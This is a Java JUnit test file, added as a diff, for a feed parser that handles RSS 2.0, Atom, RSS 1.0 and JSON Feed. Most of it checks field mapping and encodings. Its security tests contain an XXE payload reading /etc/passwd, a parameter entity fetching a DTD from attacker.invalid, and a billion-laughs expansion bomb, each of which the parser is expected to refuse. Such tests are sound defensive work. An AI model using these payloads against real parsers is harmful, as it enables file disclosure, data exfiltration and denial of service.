@@ -1,0 +1,260 @@
+package org.copydesk.plugins.rss;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import org.copydesk.api.Document;
+import org.copydesk.api.FormatException;
+import org.copydesk.api.Payload;
+import org.copydesk.api.Settings;
+import org.junit.jupiter.api.Test;
+
+class RssFormatTest {
+    private static final Instant RECEIVED = Instant.parse("2026-01-02T03:04:05Z");
+    private final RssFormat format = new RssFormat("auto");
+
+    private static Payload payload(String text) {
+        return new Payload(text.getBytes(StandardCharsets.UTF_8), "https://example.org/feed", RECEIVED);
+    }
+
+    @Test
+    void rss20ItemMapsEveryField() throws Exception {
+        String feed = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
+                     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
+                <channel>
+                  <title>Example Wire</title><link>https://example.org/</link><language>en-us</language>
+                  <item>
+                    <title>Harbour reopens after &lt;b&gt;storm&lt;/b&gt;</title>
+                    <link>https://example.org/2026/harbour</link>
+                    <guid isPermaLink="false">example-123</guid>
+                    <description>Short summary.</description>
+                    <content:encoded><![CDATA[<p>First paragraph with <a href="x">a link</a>.</p><div>Second&nbsp;one.</div><script>x()</script>]]></content:encoded>
+                    <pubDate>Tue, 06 Jan 2026 14:30:00 +0100</pubDate>
+                    <dc:creator>Jane Reporter</dc:creator>
+                    <category>Weather</category><category>Ports</category>
+                    <enclosure url="https://example.org/a.mp3" type="audio/mpeg" length="1234"/>
+                    <media:content url="https://example.org/p.jpg" medium="image" width="640" height="480"/>
+                  </item>
+                </channel></rss>
+                """;
+        List<Document> docs = format.parse(payload(feed));
+        assertThat(docs).hasSize(1);
+        Document d = docs.get(0);
+        assertThat(d.headline()).isEqualTo("Harbour reopens after storm");
+        assertThat(d.uri()).isEqualTo("https://example.org/2026/harbour");
+        assertThat(d.id()).isEqualTo("example-123");
+        assertThat(d.body()).isEqualTo("First paragraph with a link.\n\nSecond one.");
+        assertThat(d.meta().get("html")).asString().contains("<p>First paragraph");
+        assertThat(d.published()).isEqualTo("2026-01-06T14:30:00+01:00");
+        assertThat(d.byline()).isEqualTo("Jane Reporter");
+        assertThat(d.meta().get("subjects")).isEqualTo(List.of("Weather", "Ports"));
+        @SuppressWarnings("unchecked")
+        List<Map<String, Object>> media = (List<Map<String, Object>>) d.meta().get("media");
+        assertThat(media).hasSize(2);
+        assertThat(media.get(0)).containsEntry("url", "https://example.org/a.mp3").containsEntry("type", "audio/mpeg")
+                .containsEntry("length", 1234L);
+        assertThat(media.get(1)).containsEntry("url", "https://example.org/p.jpg").containsEntry("medium", "image")
+                .containsEntry("width", 640L);
+        assertThat(d.distributor()).isEqualTo("Example Wire");
+        assertThat(d.language()).isEqualTo("en-US");
+        assertThat(d.source().uri()).isEqualTo("https://example.org/feed");
+        assertThat(d.source().format()).isEqualTo("rss");
+        assertThat(d.source().received()).isEqualTo(RECEIVED);
+        assertThat(d.warnings()).isEmpty();
+    }
+
+    @Test
+    void bodyFromDescriptionSetting() throws Exception {
+        String feed = """
+                <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T</title>
+                <item><title>A</title><description>Short summary.</description>
+                <content:encoded>&lt;p&gt;Long content text here.&lt;/p&gt;</content:encoded></item></channel></rss>
+                """;
+        assertThat(new RssFormat("description").parse(payload(feed)).get(0).body()).isEqualTo("Short summary.");
+        assertThat(new RssFormat("content").parse(payload(feed)).get(0).body()).isEqualTo("Long content text here.");
+        assertThat(new RssFormat("auto").parse(payload(feed)).get(0).body()).isEqualTo("Long content text here.");
+    }
+
+    @Test
+    void atom10Entries() throws Exception {
+        String feed = """
+                <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de">
+                  <title type="html">Beispiel &amp;amp; Co</title>
+                  <id>urn:feed</id><updated>2026-02-01T10:00:00Z</updated>
+                  <entry>
+                    <title>Erster</title><id>tag:example.org,2026:1</id>
+                    <link rel="alternate" href="https://example.org/1"/>
+                    <published>2026-02-01T09:15:30.5-05:00</published><updated>2026-02-01T10:00:00Z</updated>
+                    <author><name>Max Muster</name></author><author><name>Erika Muster</name></author>
+                    <category term="Politik"/>
+                    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Eins.</p><p>Zwei.</p></div></content>
+                  </entry>
+                  <entry><title>Zweiter</title><id>tag:example.org,2026:2</id><summary>Nur Text.</summary>
+                    <updated>2026-02-02</updated></entry>
+                </feed>
+                """;
+        List<Document> docs = format.parse(payload(feed));
+        assertThat(docs).hasSize(2);
+        Document d = docs.get(0);
+        assertThat(d.id()).isEqualTo("tag:example.org,2026:1");
+        assertThat(d.uri()).isEqualTo("https://example.org/1");
+        assertThat(d.published()).isEqualTo("2026-02-01T09:15:30.5-05:00");
+        assertThat(d.meta()).containsEntry("updated", "2026-02-01T10:00:00Z");
+        assertThat(d.byline()).isEqualTo("Max Muster, Erika Muster");
+        assertThat(d.body()).isEqualTo("Eins.\n\nZwei.");
+        assertThat(d.meta().get("subjects")).isEqualTo(List.of("Politik"));
+        assertThat(d.distributor()).isEqualTo("Beispiel & Co");
+        assertThat(docs.get(1).body()).isEqualTo("Nur Text.");
+        assertThat(docs.get(1).published()).isEqualTo("2026-02-02");
+    }
+
+    @Test
+    void rss10Rdf() throws Exception {
+        String feed = """
+                <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
+                         xmlns:dc="http://purl.org/dc/elements/1.1/">
+                  <channel rdf:about="https://example.org/"><title>RDF site</title><link>https://example.org/</link>
+                    <description>d</description><dc:language>fr</dc:language></channel>
+                  <item rdf:about="https://example.org/a"><title>Un</title><link>https://example.org/a</link>
+                    <dc:date>2026-03-04T05:06:07+02:00</dc:date><dc:creator>Marie</dc:creator>
+                    <dc:subject>Culture</dc:subject><description>Texte.</description></item>
+                </rdf:RDF>
+                """;
+        Document d = format.parse(payload(feed)).get(0);
+        assertThat(d.headline()).isEqualTo("Un");
+        assertThat(d.uri()).isEqualTo("https://example.org/a");
+        assertThat(d.published()).isEqualTo("2026-03-04T05:06:07+02:00");
+        assertThat(d.byline()).isEqualTo("Marie");
+        assertThat(d.language()).isEqualTo("fr");
+        assertThat(d.distributor()).isEqualTo("RDF site");
+    }
+
+    @Test
+    void jsonFeed11() throws Exception {
+        String feed = """
+                {"version": "https://jsonfeed.org/version/1.1", "title": "JSON Wire", "language": "en",
+                 "items": [{"id": 42, "url": "https://example.org/j", "title": "Hello",
+                   "content_html": "<p>One.</p><p>Two.</p>", "summary": "S",
+                   "date_published": "2026-04-05T06:07:08+09:00", "authors": [{"name": "Ann"}],
+                   "tags": ["a", "b"], "attachments": [{"url": "https://example.org/v.mp4", "mime_type": "video/mp4",
+                   "size_in_bytes": 99}]}]}
+                """;
+        Document d = format.parse(payload(feed)).get(0);
+        assertThat(d.id()).isEqualTo("42");
+        assertThat(d.headline()).isEqualTo("Hello");
+        assertThat(d.body()).isEqualTo("One.\n\nTwo.");
+        assertThat(d.published()).isEqualTo("2026-04-05T06:07:08+09:00");
+        assertThat(d.byline()).isEqualTo("Ann");
+        assertThat(d.language()).isEqualTo("en");
+        assertThat(d.distributor()).isEqualTo("JSON Wire");
+        assertThat(d.meta().get("subjects")).isEqualTo(List.of("a", "b"));
+        assertThat(d.meta().get("media")).asString().contains("video/mp4");
+        assertThat(d.meta().get("feed_type")).isEqualTo("json_1.1");
+    }
+
+    @Test
+    void refusesExternalEntities() {
+        String xxe = """
+                <?xml version="1.0"?>
+                <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
+                <rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item></channel></rss>
+                """;
+        assertThatThrownBy(() -> format.parse(payload(xxe))).isInstanceOf(FormatException.class)
+                .hasMessageContaining("external entity").hasMessageContaining("refused");
+        String parameter = """
+                <!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>
+                <rss version="2.0"><channel><title>t</title><item><title>ok</title></item></channel></rss>
+                """;
+        // the external DTD is never loaded: the DOCTYPE is dropped and the feed read without it
+        assertThat(assertDoesNotReadFiles(parameter)).isEqualTo("ok");
+    }
+
+    private String assertDoesNotReadFiles(String feed) {
+        try {
+            return format.parse(payload(feed)).get(0).headline();
+        } catch (FormatException e) {
+            return "refused: " + e.getMessage();
+        }
+    }
+
+    @Test
+    void refusesBillionLaughs() {
+        StringBuilder dtd = new StringBuilder("<!DOCTYPE rss [ <!ENTITY lol \"lol\">");
+        for (int i = 1; i <= 9; i++) {
+            dtd.append("<!ENTITY lol").append(i).append(" \"");
+            for (int j = 0; j < 10; j++) {
+                dtd.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
+            }
+            dtd.append("\">");
+        }
+        dtd.append("]>");
+        String bomb = dtd + "<rss version=\"2.0\"><channel><item><title>&lol9;</title></item></channel></rss>";
+        assertThatThrownBy(() -> format.parse(payload(bomb))).isInstanceOf(FormatException.class)
+                .hasMessageContaining("entity expansion");
+    }
+
+    @Test
+    void simpleInternalEntityIsExpanded() throws Exception {
+        String feed = "<!DOCTYPE rss [ <!ENTITY org \"Example Org\"> ]><rss version=\"2.0\"><channel><title>t</title>"
+                + "<item><title>News from &org;</title></item></channel></rss>";
+        assertThat(format.parse(payload(feed)).get(0).headline()).isEqualTo("News from Example Org");
+    }
+
+    @Test
+    void rejectsWhatIsNotAFeed() {
+        assertThatThrownBy(() -> format.parse(payload("<html><body><p>hi</p></body></html>")))
+                .isInstanceOf(FormatException.class).hasMessage("not a feed: root element <html>");
+        assertThatThrownBy(() -> format.parse(payload(""))).isInstanceOf(FormatException.class).hasMessage("empty file");
+        assertThatThrownBy(() -> format.parse(payload("   \n"))).isInstanceOf(FormatException.class).hasMessage("empty document");
+        assertThatThrownBy(() -> format.parse(payload("{\"a\":1}"))).isInstanceOf(FormatException.class)
+                .hasMessageContaining("JSON Feed");
+        assertThatThrownBy(() -> format.parse(payload("<rss version=\"2.0\"><channel><title>t</title></channel></rss>")))
+                .isInstanceOf(FormatException.class).hasMessage("feed has no items");
+        assertThatThrownBy(() -> format.parse(payload("plain text"))).isInstanceOf(FormatException.class)
+                .hasMessageContaining("not a feed");
+    }
+
+    @Test
+    void illFormedFeedIsReadLenientlyWithAWarning() throws Exception {
+        String feed = "<rss version=\"2.0\"><channel><title>Fish & Chips</title><item><title>Caf&eacute; open"
+                + "</title><link>https://example.org/?a=1&b=2</link><description>unclosed <b>bold</description></item>"
+                + "<item><title>Second</title></item></channel></rss";
+        List<Document> docs = format.parse(payload(feed));
+        assertThat(docs).hasSize(2);
+        assertThat(docs.get(0).headline()).isEqualTo("Café open");
+        assertThat(docs.get(0).uri()).isEqualTo("https://example.org/?a=1&b=2");
+        assertThat(docs.get(0).distributor()).isEqualTo("Fish & Chips");
+        assertThat(docs.get(1).warnings()).singleElement().satisfies(w ->
+                assertThat(w.message()).contains("not well-formed").contains("parsed leniently"));
+    }
+
+    @Test
+    void encodingsFromHeaderDeclarationAndDetection() throws Exception {
+        String feed = "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><rss version=\"2.0\"><channel><title>t</title>"
+                + "<item><title>Gr\u00fc\u00dfe \u201cquoted\u201d</title></item></channel></rss>";
+        byte[] latin = feed.getBytes(Charset.forName("windows-1252"));
+        Payload p = new Payload(latin, "f", RECEIVED);
+        assertThat(format.parse(p).get(0).headline()).isEqualTo("Gr\u00fc\u00dfe \u201cquoted\u201d");
+        String noDecl = "<rss version=\"2.0\"><channel><title>t</title><item><title>\u65e5\u672c</title></item></channel></rss>";
+        Payload sjis = new Payload(noDecl.getBytes(Charset.forName("Shift_JIS")), "f", RECEIVED,
+                "application/rss+xml; charset=Shift_JIS", Map.of());
+        assertThat(format.parse(sjis).get(0).headline()).isEqualTo("\u65e5\u672c");
+        byte[] utf16 = ("\ufeff" + noDecl).getBytes(StandardCharsets.UTF_16LE);
+        assertThat(format.parse(new Payload(utf16, "f", RECEIVED)).get(0).headline()).isEqualTo("\u65e5\u672c");
+    }
+
+    @Test
+    void factoryDeclaresSettings() throws Exception {
+        RssFormatFactory factory = new RssFormatFactory();
+        assertThat(factory.type()).isEqualTo("rss");
+        assertThat(factory.settings()).extracting(s -> s.name()).containsExactly("body_from");
+        assertThat(factory.create(null, Settings.empty())).isInstanceOf(RssFormat.class);
+    }
+}
